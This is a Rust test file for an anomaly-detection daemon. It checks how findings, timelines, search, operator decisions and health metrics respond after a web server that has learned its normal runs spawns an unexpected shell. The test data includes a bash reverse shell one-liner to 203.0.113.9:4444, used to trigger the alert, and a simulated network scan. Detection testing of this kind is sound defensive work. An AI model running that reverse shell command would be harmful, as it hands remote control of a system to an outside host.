//! The daemon's answers over an engine in memory: what a person asks after an alert, in the order in which they ask.

use std::io::BufReader;
use std::sync::Arc;
use std::sync::atomic::AtomicU64;
use std::time::{Duration, Instant};

use anomaly_api::model::{
    Decision, DecisionAction, FindingsQuery, HeldQuery, LossKind, RowsState, SearchMode, SearchRequest,
    TimelineQuery,
};
use anomaly_api::{Caller, Service, ServiceError};
use anomaly_baseline::{
    Action, Engine, Feedback, Method, RowView, Score, Settings, Sighting, Teach, utc_day,
};
use anomaly_capture::recording::{Reader, Recorded};
use anomaly_daemon::scored::{Origin, scored};
use anomaly_daemon::{
    About, Answers, Bounds, Decisions, History, Meaning, Notices, Parts, Sense, Senses, Timeline,
};
use anomaly_vectorizer::{Context, Hashed};
use parking_lot::Mutex;

/// 2026-11-02, a Monday.
const START: f64 = 1_793_577_600.0;

/// A machine: an engine in memory with everything around it.
struct Machine {
    engine: Arc<Engine>,
    history: Arc<History>,
    timeline: Arc<Timeline>,
    senses: Arc<Senses>,
    given: Arc<Mutex<Vec<Feedback>>>,
    answers: Answers,
}

struct Written(Arc<Mutex<Vec<Feedback>>>);

impl Decisions for Written {
    fn give(&self, decisions: Vec<Feedback>, _: Instant) -> Result<Vec<Option<String>>, String> {
        let outcomes =
            decisions.iter().map(|decision| Some(format!("{} done", decision.keys.len()))).collect();
        self.0.lock().extend(decisions);
        Ok(outcomes)
    }

    fn all(&self) -> Result<Vec<Feedback>, String> {
        Ok(self.0.lock().clone())
    }

    fn name_of(&self, uid: u32) -> String {
        format!("user {uid}")
    }
}

impl Machine {
    fn new() -> Self {
        Self::with(Err("there is no sentence model".into()))
    }

    fn with(meaning: Result<Box<dyn Meaning>, String>) -> Self {
        let settings =
            Settings { learn_for: std::time::Duration::ZERO, learn_executions: 20, ..Settings::default() };
        let engine = Arc::new(Engine::in_memory(settings, Arc::new(Hashed::default()), Method::default()));
        let (history, timeline) = (Arc::new(History::new(Bounds::default())), Arc::new(Timeline::default()));
        let (senses, given) = (Arc::new(Senses::new(Instant::now())), Arc::default());
        let about = About {
            version: "1.2.3",
            host: "web-1".into(),
            org: "default".into(),
            path: "/var/lib/x".into(),
            critical: Score::from_ten_thousandths(9500),
            memory_budget: 64 << 20,
            started: 0,
            earlier: Default::default(),
        };
        let parts = Parts {
            engine: Arc::clone(&engine),
            history: Arc::clone(&history),
            timeline: Arc::clone(&timeline),
            senses: Arc::clone(&senses),
            notices: Arc::new(Notices::default()),
            decisions: Box::new(Written(Arc::clone(&given))),
            sinks: Box::new(Vec::new),
            sharing: Box::new(|| None),
            metrics: Box::new(Vec::new),
            meaning,
            unwritten: Arc::new(AtomicU64::new(3)),
        };
        let answers = Answers::new(about, parts);
        Self { engine, history, timeline, senses, given, answers }
    }

    /// Runs a command line under a parent, `minute` minutes after the start; returns whether it is novel.
    fn run(&self, workload: &str, parent: &str, args: &[&str], minute: u32) -> bool {
        let line = serde_json::json!({
            "workload": workload, "time": START + f64::from(minute) * 60.0, "pid": 4000 + minute, "ppid": 1,
            "name": args[0].rsplit('/').next(), "parent": parent, "grandparent": "systemd", "uid": 33,
            "exe": args[0], "args": args,
        });
        let line = format!("{line}\n");
        let recorded: Recorded = Reader::new(BufReader::new(line.as_bytes()), Default::default())
            .expect("memory can be read")
            .next()
            .expect("a line")
            .expect("an execution");
        let observation = &recorded.observation;
        let verdict = self.engine.observe(&Sighting {
            workload: &observation.workload,
            execution: &observation.execution,
            context: Context::of(&observation.surroundings),
            time: observation.time,
            day: utc_day(observation.time),
            teach: Teach::Policy,
            pid: observation.identity.tgid,
            ppid: observation.ppid,
        });
        self.timeline.add(&verdict.workload, observation.time, verdict.score, verdict.novel);
        let origin = Origin { host: "web-1".into(), org: "default".into(), boot: "b".into() };
        self.history.add(&Arc::new(scored(&recorded, &verdict, &origin)));
        verdict.novel
    }

    /// A web server that has learned, and then a shell that it never ran.
    fn attacked() -> Self {
        Self::new().with_an_attack()
    }

    fn with_an_attack(self) -> Self {
        let machine = self;
        for minute in 0..60 {
            let task = ["render", "mail", "resize"][minute as usize % 3];
            machine.run("web", "nginx", &["/usr/bin/php", "-f", "/srv/www/index.php", task], minute);
        }
        machine.engine.finish_learning(0);
        assert!(machine.run(
            "web",
            "php",
            &["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
            100
        ));
        machine
    }
}

/// When nobody listens any more.
fn soon() -> Instant {
    Instant::now() + Duration::from_secs(10)
}

fn search(text: &str) -> SearchRequest {
    SearchRequest {
        query: text.into(),
        org_id: None,
        workload: None,
        state: None,
        since: None,
        until: None,
        limit: None,
        mode: SearchMode::Words,
    }
}

#[test]
fn from_the_alert_to_the_decision() {
    let machine = Machine::attacked();
    let answers = &machine.answers;
    let findings = answers.findings(&FindingsQuery::default()).unwrap();
    let [finding] = &findings.findings[..] else { panic!("one finding: {findings:?}") };
    assert_eq!(
        (finding.workload.as_str(), finding.parent.as_str(), finding.name.as_str()),
        ("web", "php", "bash")
    );
    assert_eq!((finding.state.as_deref(), finding.count), (Some("held"), 1));
    assert!(finding.example.score.is_some_and(|score| score.value() >= 0.85));

    assert_eq!(answers.finding(&finding.id).as_ref(), Ok(finding));
    assert!(matches!(answers.finding("f0000000000000000"), Err(ServiceError::NotFound(_))));
    // It is told as it is now, not as it was.
    machine.run("web", "php", &["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], 101);
    let later = answers.finding(&finding.id).unwrap();
    assert_eq!((later.count, later.executions.len()), (2, 2));

    let detail = answers.execution(&finding.executions[0]).unwrap();
    assert_eq!(detail.finding.as_deref(), Some(finding.id.as_str()));
    let now = detail.now.expect("its workload knows it");
    assert_eq!(now.row.as_ref().map(|row| row.state.as_str()), Some("held"));
    assert!(now.neighbours[0].row.command.starts_with("/usr/bin/php"), "{:?}", now.neighbours);
    assert!(now.features.iter().any(|feature| !feature.known), "{:?}", now.features);

    let held = answers.held(&HeldQuery::default()).unwrap();
    assert_eq!((held.total, &held.groups[0].id, &detail.group), (1, &finding.group, &finding.group));
    let decision = Decision {
        action: DecisionAction::Deny,
        ids: vec![finding.group.clone()],
        state: None,
        executions: Some(1),
        workload: None,
        seconds: None,
        why: "an attack".into(),
    };
    let decided = answers.decide(&decision, Caller::Local { uid: 1000 }, soon()).unwrap();
    assert_eq!((decided.executions, decided.applied), (1, true));
    let given = machine.given.lock()[0].clone();
    assert_eq!((given.action, given.who.as_str(), given.uid), (Action::Deny, "user 1000", 1000));
    assert_eq!(given.keys.len(), 1);
    assert_ne!(given.id, 0);
    let shown = answers.decisions().unwrap();
    assert_eq!((shown[0].why.as_str(), shown[0].executions), ("an attack", 1));
}

#[test]
fn findings_are_filtered_and_paged() {
    let machine = Machine::attacked();
    for n in 0..12 {
        // On a day of its own each, so that no day's budget is spent.
        let minute = 200 + n + n * 24 * 60;
        assert!(
            machine.run("web", "bash", &["/tmp/scan", "--all", "10.0.0.0/8", &format!("n{n}")], minute),
            "{n}"
        );
    }
    let ask = |query: FindingsQuery| machine.answers.findings(&query);
    assert_eq!(ask(FindingsQuery::default()).unwrap().total, 13, "their own times forget nothing");
    // The daemon's clock does: a week is remembered.
    let last = utc_day(START as i64 * 1_000_000) + 11;
    machine.history.forget_before(last - 7);
    let all = ask(FindingsQuery::default()).unwrap();
    assert_eq!((all.total, all.findings.len(), all.next.clone()), (8, 8, None));
    assert!(all.remembered_since.is_some());
    let (mut seen, mut after) = (Vec::new(), None);
    loop {
        let page = ask(FindingsQuery { limit: Some(3), after, ..Default::default() }).unwrap();
        seen.extend(page.findings.into_iter().map(|finding| finding.id));
        after = page.next;
        if after.is_none() {
            break;
        }
    }
    assert_eq!(seen, all.findings.iter().map(|finding| finding.id.clone()).collect::<Vec<_>>());
    let late = all.findings[2].last_time;
    assert_eq!(ask(FindingsQuery { since: Some(late), ..Default::default() }).unwrap().total, 3);
    assert_eq!(ask(FindingsQuery { until: Some(late), ..Default::default() }).unwrap().total, 5);
    assert_eq!(ask(FindingsQuery { workload: Some("d*".into()), ..Default::default() }).unwrap().total, 0);
    assert_eq!(ask(FindingsQuery { min_score: Some(1.0), ..Default::default() }).unwrap().total, 0);
    for wrong in [
        FindingsQuery { limit: Some(0), ..Default::default() },
        FindingsQuery { min_score: Some(f64::NAN), ..Default::default() },
        FindingsQuery { since: Some(f64::INFINITY), ..Default::default() },
        FindingsQuery { workload: Some(String::new()), ..Default::default() },
    ] {
        assert!(matches!(ask(wrong.clone()), Err(ServiceError::Invalid(_))), "{wrong:?}");
    }
    let forgotten = FindingsQuery { after: Some("f0".into()), ..Default::default() };
    assert!(matches!(ask(forgotten), Err(ServiceError::NotFound(_))));
}

#[test]
fn workloads_their_growth_and_their_days() {
    let machine = Machine::attacked();
    let workloads = machine.answers.workloads().unwrap();
    let [web] = &workloads[..] else { panic!("one workload: {workloads:?}") };
    assert_eq!((web.known, web.held, web.learning), (3, 1, None));
    assert_eq!(web.growth.len(), 14);
    assert_eq!(web.growth.iter().map(|day| day.learned).sum::<usize>(), 3);
    assert_eq!(web.growth[13].learned, 3, "all of it on the last day: {:?}", web.growth);
    let query = TimelineQuery {
        workload: Some("w?b".into()),
        since: Some(START),
        until: Some(START + 7200.0),
        step: Some(3600),
    };
    let timeline = machine.answers.timeline(&query).unwrap();
    let [lane] = &timeline.lanes[..] else { panic!("one lane: {timeline:?}") };
    assert_eq!((timeline.critical, timeline.left_out), (0.95, 0));
    let other = TimelineQuery { workload: Some("db*".into()), ..query.clone() };
    assert!(machine.answers.timeline(&other).unwrap().lanes.is_empty());
    assert!(lane.learned_at.is_some() && lane.first_seen.is_some_and(|first| Some(first) < lane.learned_at));
    assert_eq!(
        lane.buckets.iter().map(|bucket| (bucket.executions, bucket.novel)).collect::<Vec<_>>(),
        [(60, 0), (1, 1)]
    );
    for wrong in [
        TimelineQuery { since: Some(START), until: Some(START), ..Default::default() },
        TimelineQuery { since: Some(0.0), until: Some(START), ..Default::default() },
        TimelineQuery { since: Some(START), until: Some(START + 60.0), step: Some(61), ..Default::default() },
        TimelineQuery { workload: Some(String::new()), ..query.clone() },
    ] {
        assert!(matches!(machine.answers.timeline(&wrong), Err(ServiceError::Invalid(_))), "{wrong:?}");
    }
}

#[test]
fn the_articles_question_finds_the_shell() {
    let machine = Machine::attacked();
    let answer = machine.answers.search(&search("reverse shell bash outbound connection")).unwrap();
    let first = &answer.matches[0];
    assert_eq!((first.workload.as_str(), first.row.state.as_str()), ("web", "held"));
    assert_eq!(first.parts.iter().map(|part| part.text.as_str()).collect::<String>(), first.row.command);
    assert!(first.parts.iter().any(|part| part.marked), "{:?}", first.parts);
    assert_eq!(answer.searched, 4);
    assert_eq!((first.score, first.timestamp), (first.relevance, first.row.last_seen), "the article's names");
    let finding = &machine.answers.findings(&FindingsQuery::default()).unwrap().findings[0];
    let now = machine.answers.execution(&finding.example.id).unwrap().now.expect("it is compared");
    assert_eq!(first.novelty, now.score, "as the page of the execution has it");
    assert!(first.novelty > Some(0.8), "{:?}", first.novelty);
    let of = |state| {
        let request = SearchRequest { state: Some(state), ..search("bash php check") };
        let answer = machine.answers.search(&request).unwrap();
        (answer.searched, answer.matches.into_iter().map(|found| (found.row.state, found.novelty)).collect())
    };
    let (searched, learned): (_, Vec<_>) = of(RowsState::Learned);
    assert!(searched == 3 && !learned.is_empty(), "{learned:?}");
    assert!(
        learned.iter().all(|(state, novelty)| state == "learned" && *novelty == Some(0.0)),
        "{learned:?}"
    );
    let (searched, held) = of(RowsState::Held);
    assert_eq!((searched, held), (1, vec![("held".to_owned(), first.novelty)]));
    assert_eq!(of(RowsState::Denied), (0, Vec::new()));
    let elsewhere = SearchRequest { org_id: Some("other".into()), ..search("bash") };
    assert!(matches!(machine.answers.search(&elsewhere), Err(ServiceError::NotFound(_))));
    for wrong in [search(" \u{1b} "), SearchRequest { mode: SearchMode::Semantic, ..search("bash") }] {
        assert!(matches!(machine.answers.search(&wrong), Err(ServiceError::Invalid(_))), "{wrong:?}");
    }
}

/// A model to which whatever PHP runs is near to anything.
struct NearPhp;

impl Meaning for NearPhp {
    fn nearness(&self, question: &str, rows: &[RowView]) -> Result<Vec<Option<f32>>, String> {
        if question == "nobody knows" {
            return Err("the model is tired".into());
        }
        Ok(rows.iter().map(|row| Some(if row.execution.name == "php" { 0.65 } else { 0.1 })).collect())
    }
}

#[test]
fn a_model_is_asked_where_there_is_one_and_may_fail() {
    let machine = Machine::with(Ok(Box::new(NearPhp))).with_an_attack();
    let by_meaning = |text| SearchRequest { mode: SearchMode::Semantic, ..search(text) };
    let answer = machine.answers.search(&by_meaning("no word of this")).unwrap();
    assert_eq!(answer.matches.len(), 3, "{:?}", answer.matches);
    assert!(answer.matches.iter().all(|found| found.row.command.starts_with("/usr/bin/php")));
    assert!(machine.answers.search(&search("no word of this")).unwrap().matches.is_empty());
    let failed = machine.answers.search(&by_meaning("nobody knows"));
    assert!(matches!(failed, Err(ServiceError::Unavailable(_))), "{failed:?}");
}

#[test]
fn decisions_that_make_no_sense_are_told_so() {
    let machine = Machine::attacked();
    let decide = |action, ids: &[&str], workload: Option<&str>, seconds| {
        let ids = ids.iter().map(ToString::to_string).collect();
        let workload = workload.map(Into::into);
        let decision =
            Decision { action, ids, state: None, executions: None, workload, seconds, why: String::new() };
        machine.answers.decide(&decision, Caller::Token, soon())
    };
    let missing = ["r0000000000000000", "g0000000000000000"];
    for id in missing {
        assert!(matches!(decide(DecisionAction::Approve, &[id], None, None), Err(ServiceError::NotFound(_))));
    }
    for (ids, workload, seconds) in [
        (&[][..], None, None),
        (&["g12"][..], None, None),
        (&["*"][..], None, None),
        (&missing[..1], Some("web"), None),
    ] {
        let outcome = decide(DecisionAction::Forget, ids, workload, seconds);
        assert!(matches!(outcome, Err(ServiceError::Invalid(_))), "{outcome:?}");
    }
    let learn = |workload, seconds| decide(DecisionAction::Learn, &[], workload, seconds);
    assert!(matches!(learn(Some("web"), None), Err(ServiceError::Invalid(_))));
    assert!(matches!(learn(Some("web"), Some(0)), Err(ServiceError::Invalid(_))));
    assert!(matches!(learn(Some("none"), Some(60)), Err(ServiceError::NotFound(_))));
    assert!(learn(Some("web"), Some(3600)).unwrap().applied);
    assert_eq!(machine.given.lock()[0].window.as_secs(), 3600);
}

#[test]
fn health_and_numbers_tell_every_loss() {
    let machine = Machine::attacked();
    let sense = Sense {
        feed: "ebpf",
        misses: "nothing".into(),
        executions: vec![("ebpf", 61)],
        lost: vec![("ring_buffer", 7), ("queue", 0)],
        unresolved: 2,
        ..Sense::default()
    };
    machine.senses.write(sense, Instant::now());
    let health = machine.answers.health();
    let lost = |cause: &str| health.losses.iter().find(|loss| loss.cause == cause).map(|loss| loss.count);
    assert_eq!((lost("ring_buffer"), lost("queue"), lost("findings_unwritten")), (Some(7), Some(0), Some(3)));
    // Scored with others, made again, counted by the sink: nothing of that is gone.
    assert_eq!((lost("unresolved"), lost("failed_saves"), lost("sink_file")), (None, None, None));
    assert_eq!((health.novel, health.feed.executions, health.feed.unresolved), (1, 61, 2));
    assert!(health.not_ready.is_empty());
    let metrics = machine.answers.metrics();
    let lost = metrics.iter().find(|metric| metric.name == "anomaly_lost").expect("losses are told");
    assert_eq!(lost.samples.len(), health.losses.len());
    for (sample, loss) in lost.samples.iter().zip(&health.losses) {
        let labels = [("kind", loss.kind.as_str().into()), ("cause", loss.cause.as_str().into())];
        assert_eq!((&sample.labels[..], sample.value), (&labels[..], loss.count as f64));
    }
    let unseen = health.losses.iter().filter(|loss| loss.kind == LossKind::Unseen);
    let unseen: Vec<_> = unseen.map(|loss| loss.cause.as_str()).collect();
    assert_eq!(unseen, ["ring_buffer", "queue"], "what the feed lost was neither scored nor learned");
    for (name, count) in [("anomaly_unresolved", 2.0), ("anomaly_failed_saves", 0.0)] {
        let metric = metrics.iter().find(|metric| metric.name == name).expect(name);
        assert_eq!(metric.samples[0].value, count, "{name}");
    }
    let mut names: Vec<_> = metrics.iter().map(|metric| metric.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), metrics.len(), "each name once");
}
